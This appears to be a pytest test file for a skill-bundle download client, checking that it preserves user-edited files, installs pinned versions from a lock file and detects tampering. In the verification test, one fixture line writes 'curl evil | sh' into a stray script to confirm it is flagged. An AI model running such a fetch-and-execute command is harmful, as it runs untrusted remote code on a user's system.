"""skillsite_pull owns only what it wrote (its manifest), and pins what it installed (skills.lock):
against a live server, with the standard-library client."""

import json
import subprocess
import sys

import pytest

from skills.models import Tier
from skills.services.bundles import BundleFile
from skills.services.registry import skill_unlock_grant, skill_unlock_revoke, skill_version_publish
from tests.clients.conftest import CLIENTS, load_client
from tests.factories import SkillFactory, api_key_of

pull_client = load_client("skillsite_pull")

pytestmark = pytest.mark.django_db(transaction=True)


def publish(skill, version: str, script: bytes, notes: bytes = b"# Notes\n"):
    content = f"---\nname: {skill.skill_id}\ndescription: test\n---\n{version}\n"
    files = [BundleFile.from_bytes("scripts/run.py", script, executable=True), BundleFile.from_bytes("notes.md", notes)]
    return skill_version_publish(skill=skill, version=version, content=content, files=files)


@pytest.fixture
def token(user) -> str:
    return api_key_of(user, "pull")


@pytest.fixture
def pdf(user):
    skill = SkillFactory(skill_id="pdf")
    skill_unlock_grant(user=user, skill_id=skill.skill_id)
    publish(skill, "1.0.0", b"print(1)\n")
    return skill


def run(live_server, token, dest, *flags):
    command = [sys.executable, str(CLIENTS / "skillsite_pull.py"), "--url", live_server.url, "--dest", str(dest)]
    return subprocess.run(
        [*command, *flags], env={"SKILLSITE_TOKEN": token}, capture_output=True, text=True, timeout=60
    )


def test_a_users_own_file_survives_an_update_and_a_removal(live_server, token, user, pdf, tmp_path):
    pull_client.pull(base_url=live_server.url, token=token, dest=tmp_path)
    mine = tmp_path / "pdf" / "scripts" / "my_helper.py"
    mine.write_text("mine\n")

    publish(pdf, "1.1.0", b"print(2)\n")
    updated = pull_client.pull(base_url=live_server.url, token=token, dest=tmp_path)

    assert updated["downloaded"] == ["pdf"]
    assert (tmp_path / "pdf" / "scripts" / "run.py").read_bytes() == b"print(2)\n"
    assert mine.read_text() == "mine\n"
    assert updated["kept"] == ["pdf/scripts/my_helper.py (your own file, left alone)"]

    skill_unlock_revoke(user=user, skill_id="pdf")
    removed = pull_client.pull(base_url=live_server.url, token=token, dest=tmp_path)

    assert removed["removed"] == ["pdf"]
    assert mine.read_text() == "mine\n"
    assert sorted(p.relative_to(tmp_path).as_posix() for p in (tmp_path / "pdf").rglob("*")) == [
        "pdf/scripts", "pdf/scripts/my_helper.py"
    ]  # fmt: skip
    assert removed["kept"] == ["pdf/scripts/my_helper.py (your own file, left alone)"]


def test_a_locally_edited_file_is_kept_without_force_and_named(live_server, token, pdf, tmp_path):
    pull_client.pull(base_url=live_server.url, token=token, dest=tmp_path)
    notes = tmp_path / "pdf" / "notes.md"
    notes.write_text("my edits\n")
    publish(pdf, "1.1.0", b"print(2)\n", notes=b"# Notes v2\n")

    done = run(live_server, token, tmp_path)

    assert done.returncode == 0 and done.stdout == "downloaded: pdf\n"
    assert "kept: pdf/notes.md (changed locally; --force overwrites it)" in done.stderr
    assert notes.read_text() == "my edits\n"
    assert (tmp_path / "pdf" / "scripts" / "run.py").read_bytes() == b"print(2)\n"  # the rest is updated

    publish(pdf, "1.2.0", b"print(3)\n", notes=b"# Notes v3\n")
    forced = run(live_server, token, tmp_path, "--force")

    assert forced.returncode == 0 and "kept" not in forced.stderr
    assert notes.read_text() == "# Notes v3\n"


def test_an_edited_file_dropped_from_the_skill_is_left_in_place(live_server, token, pdf, tmp_path):
    pull_client.pull(base_url=live_server.url, token=token, dest=tmp_path)
    (tmp_path / "pdf" / "notes.md").write_text("my edits\n")
    skill_version_publish(skill=pdf, version="2.0.0", content="---\nname: pdf\ndescription: t\n---\nno files\n")

    done = pull_client.pull(base_url=live_server.url, token=token, dest=tmp_path)

    assert done["kept"] == ["pdf/notes.md (changed locally; no longer part of the skill, left in place)"]
    assert (tmp_path / "pdf" / "notes.md").read_text() == "my edits\n"
    assert not (tmp_path / "pdf" / "scripts").exists()  # unchanged files of ours are gone


def test_frozen_installs_the_locked_versions_after_newer_ones_are_published(live_server, token, pdf, tmp_path):
    SkillFactory(skill_id="basics", tier=Tier.FOUNDATIONAL)
    skill_version_publish(skill=pdf.__class__.objects.get(pk="basics"), version="1.0.0", content="basics v1\n")
    pull_client.pull(base_url=live_server.url, token=token, dest=tmp_path / "dev")
    lock = tmp_path / "dev" / "skills.lock"
    locked = json.loads(lock.read_text())["skills"]
    assert {name: entry["version"] for name, entry in locked.items()} == {"basics": "1.0.0", "pdf": "1.0.0"}
    assert locked["pdf"]["bundle_sha256"] == pdf.versions.get(version="1.0.0").bundle_sha256
    assert locked["pdf"]["files"]["scripts/run.py"]["mode"] == "755"

    publish(pdf, "1.1.0", b"print(2)\n")
    agent = tmp_path / "agent"
    done = run(live_server, token, agent, "--frozen", "--lock", str(lock))

    assert done.returncode == 0, done.stderr
    assert (agent / "pdf" / "scripts" / "run.py").read_bytes() == b"print(1)\n"  # 1.0.0, not the newer 1.1.0
    assert (agent / "pdf" / "scripts" / "run.py").stat().st_mode & 0o777 == 0o755
    assert run(live_server, token, agent, "--verify", "--lock", str(lock)).returncode == 0


def test_frozen_fails_changing_nothing_when_the_server_cannot_serve_the_lock(live_server, token, user, pdf, tmp_path):
    pull_client.pull(base_url=live_server.url, token=token, dest=tmp_path / "dev")
    lock = tmp_path / "dev" / "skills.lock"
    agent = tmp_path / "agent"
    skill_unlock_revoke(user=user, skill_id="pdf")

    done = run(live_server, token, agent, "--frozen", "--lock", str(lock))

    assert done.returncode == 1 and "403" in done.stderr and "pdf" in done.stderr
    assert not (agent / "pdf").exists()

    skill_unlock_grant(user=user, skill_id="pdf")
    data = json.loads(lock.read_text())
    data["skills"]["pdf"]["version"] = "9.9.9"  # a version the server never had
    lock.write_text(json.dumps(data))
    missing = run(live_server, token, agent, "--frozen", "--lock", str(lock))
    assert missing.returncode == 1 and "404" in missing.stderr and not (agent / "pdf").exists()


def test_verify_catches_a_changed_byte_a_missing_and_an_extra_file(live_server, token, pdf, tmp_path):
    pull_client.pull(base_url=live_server.url, token=token, dest=tmp_path)
    assert run(live_server, "", tmp_path, "--verify").returncode == 0

    script = tmp_path / "pdf" / "scripts" / "run.py"
    script.write_bytes(b"print(9)\n")
    (tmp_path / "pdf" / "notes.md").unlink()
    (tmp_path / "pdf" / "extra.sh").write_text("curl evil | sh\n")
    done = run(live_server, "", tmp_path, "--verify")

    assert done.returncode == 1
    assert done.stdout.splitlines() == [
        "pdf/notes.md: missing",
        "pdf/scripts/run.py: changed (sha256 differs from the lock)",
        "pdf/extra.sh: extra (not in the lock)",
    ]
    script.write_bytes(b"print(1)\n")
    script.chmod(0o644)
    assert "pdf/scripts/run.py: mode 644, locked 755" in run(live_server, "", tmp_path, "--verify").stdout


def test_a_lock_whose_file_list_does_not_match_its_digests_is_refused(live_server, token, pdf, tmp_path):
    pull_client.pull(base_url=live_server.url, token=token, dest=tmp_path)
    lock = tmp_path / "skills.lock"
    data = json.loads(lock.read_text())
    data["skills"]["pdf"]["files"]["scripts/run.py"]["sha256"] = "0" * 64
    lock.write_text(json.dumps(data))
    done = run(live_server, "", tmp_path, "--verify")
    assert done.returncode == 1 and "do not match the locked bundle_sha256" in done.stderr


def test_a_manifest_of_an_older_release_is_taken_over(live_server, token, pdf, tmp_path):
    """Older releases listed whole folders, not files: every file found in one is taken as written by it."""
    (tmp_path / "pdf" / "scripts").mkdir(parents=True)
    (tmp_path / "pdf" / "SKILL.md").write_text("old\n")
    (tmp_path / "pdf" / "scripts" / "old.py").write_text("print(0)\n")
    (tmp_path / ".skillsite.json").write_text(
        json.dumps({"pdf": {"etag": '"x"', "kind": "bundle", "version": "0.9.0"}})
    )

    done = pull_client.pull(base_url=live_server.url, token=token, dest=tmp_path)

    assert done["downloaded"] == ["pdf"] and done["kept"] == []
    assert not (tmp_path / "pdf" / "scripts" / "old.py").exists()  # it was the old release's file: removed
    manifest = json.loads((tmp_path / ".skillsite.json").read_text())
    assert manifest["format"] == 2
    assert sorted(manifest["skills"]["pdf"]["files"]) == ["SKILL.md", "notes.md", "scripts/run.py"]
